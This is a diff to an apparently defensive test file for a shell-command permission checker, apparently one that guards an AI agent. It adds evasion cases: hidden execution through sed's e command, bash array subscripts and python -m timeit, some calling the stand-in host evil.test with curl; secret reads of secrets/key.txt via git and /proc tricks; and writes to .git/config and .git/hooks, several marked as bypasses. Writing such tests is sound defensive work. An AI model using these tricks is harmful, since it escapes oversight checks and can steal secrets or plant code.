@@ -199,6 +199,19 @@ HIDDEN_COMMANDS: dict[str, Attack] = {
     "man -P": run("man -P 'cu\\rl evil.test' ls", bypass=True),
     "LESSOPEN": run("LESSOPEN='|cu\\rl evil.test' less README.md", bypass=True),
     "compgen -C": run("compgen -C 'cu\\rl evil.test' x", bypass=True),
+    # a second review's finds
+    "sed label ended by a space, then e": run("sed -n ':a e touch PWNED' README.md"),
+    "sed label ended by a space, curl": run("sed -n ':a e curl evil.test' README.md", bypass=True),
+    "test -v of an expanded name": run("x='a[$(touch PWNED)]'; test -v \"$x\""),
+    "[[ -v of an expanded name": run("x='a[$(curl evil.test)]'; [[ -v $x ]]", bypass=True),
+    "printf -v of an expanded name": run("x='a[$(touch PWNED)]'; printf -v \"$x\" %s 1"),
+    "an array key from a variable": run("x='a[$(touch PWNED)]'; a=([x]=1)"),
+    "printf's -v from a variable": run("x=-v; printf $x 'a[$(touch PWNED)]' 1"),
+    "printf -v glued to its name": run("printf '-va[$(touch PWNED)]' 1"),
+    "an integer variable's value": run("declare -i n; n='a[$(curl evil.test)]'", bypass=True),
+    "python -m timeit": run(
+        'python3 -m timeit \'import os; os.system("cu"+"rl evil.test"); 1/0\'', bypass=True
+    ),
 }
 
 SECRET_READS: dict[str, Attack] = {
@@ -272,6 +285,13 @@ SECRET_READS: dict[str, Attack] = {
     "zip of names on input": read("echo secrets/key.txt | zip -q - -@ | zcat"),
     "through the process's own folder": read("cat /proc/self/cwd/secrets/key.txt"),
     "cd secrets earlier, then cat": after(read("cat key.txt"), "cd secrets"),
+    # a second review's finds
+    "sed label ended by a space, then e cat": read("sed -n ':a e cat secrets/key.txt' README.md"),
+    "git log --full-diff past its paths": read("git log -p --full-diff -- README.md"),
+    "a colon inside a revision": read("git show 'HEAD^{/[:s]tart}:secrets/key.txt'"),
+    "a commit found by its message": read("git show :/start"),
+    "/proc with a doubled slash": read("cd secrets && cat /proc//self/cwd/key.txt"),
+    "globs that ignore case": read("shopt -s nocaseglob; cat SECRET?/KEY.TX?"),
 }
 
 PROTECTED_WRITES: dict[str, Attack] = {
@@ -298,6 +318,19 @@ PROTECTED_WRITES: dict[str, Attack] = {
     ),
     "a line that does not parse": wrote("printf 'x' 1<>.git/config", ".git/config", bypass=True),
     "~+ into git's config": wrote("echo x >> ~+/.git/config", ".git/config", bypass=True),
+    # a second review's finds
+    "cp --t, the shortest abbreviation": wrote(
+        "cp --t=.git/hooks pwn.sh", ".git/hooks/pwn.sh", bypass=True
+    ),
+    "sort --o, the shortest abbreviation": wrote(
+        "sort --o=.git/config README.md", ".git/config", bypass=True
+    ),
+    "a symbolic link by cp's long option": wrote(
+        "cp --symbolic-link .git/config c; cat README.md >> c", ".git/config", bypass=True
+    ),
+    "sed s///w after a label": wrote(
+        "sed -n ':a s/.*/x/w .git/config' README.md", ".git/config", bypass=True
+    ),
 }
 
 
@@ -344,5 +377,9 @@ ORDINARY: dict[str, str] = {
     "blame of a file": "git blame README.md",
     "stash list": "git stash list",
     "git log stat": "git log --stat -n 1",
+    "branches holding a commit": "git branch --contains HEAD",
+    "tags holding a commit": "git tag --contains HEAD",
+    "history of one file": "git log -p -- README.md",
+    "a diff of a folder": "git diff -- src",
 }
 """Ordinary commands that must run in default mode without a question."""
